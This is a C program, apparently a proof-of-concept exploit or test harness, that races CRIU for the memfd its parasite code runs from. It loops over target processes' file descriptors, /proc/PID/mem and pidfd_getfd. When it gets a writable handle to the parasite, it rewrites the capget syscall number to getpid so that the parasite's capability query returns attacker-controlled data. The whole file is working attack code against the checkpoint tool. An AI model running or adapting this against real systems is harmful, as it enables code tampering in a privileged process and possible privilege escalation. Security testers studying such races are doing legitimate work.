/*
 * Races CRIU for the file that its parasite runs from: race TARGETS RESULT. Spins over the descriptors, memory and mappings
 * of the processes whose ids are in TARGETS; what it can open to write, it writes into. RESULT has the number of tries, of
 * descriptors that it could open, and of parasite's files among these.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

static long tries, opened, parasites;

/* In its code, the number of the system call becomes another: capget answers nothing, and its buffer stays the attacker's. */
static void patch(int fd)
{
	struct stat is;
	char link[64], path[256] = "";
	snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
	if (readlink(link, path, sizeof path - 1) < 0 || !strstr(path, "memfd:CRIU") || fstat(fd, &is) != 0)
		return;
	parasites++;
	unsigned char *code = mmap(NULL, is.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	for (long at = 0; code != MAP_FAILED && at + 5 < is.st_size; at++)
		if (memcmp(code + at, "\xb8\x7d\0\0\0", 5) == 0)
			memcpy(code + at, "\xb8\x27\0\0\0", 5);
}

static void attack(int pid)
{
	char path[64];
	for (int fd = 0; fd < 24; fd++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		int got = open(path, O_RDWR | O_NONBLOCK | O_NOCTTY);
		tries++;
		if (got >= 0) {
			opened++;
			patch(got);
			close(got);
		}
	}
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int memory = open(path, O_RDWR);
	tries++;
	opened += memory >= 0;
	close(memory);
	int handle = syscall(SYS_pidfd_open, pid, 0);
	for (int fd = 3; handle >= 0 && fd < 12; fd++) {
		int got = syscall(SYS_pidfd_getfd, handle, fd, 0);
		tries++;
		if (got >= 0) {
			opened++;
			patch(got);
			close(got);
		}
	}
	close(handle);
}

int main(int argc, char **argv)
{
	for (;;) {
		int pids[64], count = 0;
		FILE *in = fopen(argv[1], "r");
		while (in && count < 64 && fscanf(in, "%d", &pids[count]) == 1)
			count++;
		if (in)
			fclose(in);
		for (int times = 0; times < 200; times++)
			for (int at = 0; at < count; at++)
				attack(pids[at]);
		FILE *out = fopen(argv[2], "w");
		fprintf(out, "%ld %ld %ld\n", tries, opened, parasites);
		fclose(out);
		if (count == 0)
			usleep(1000);
	}
}
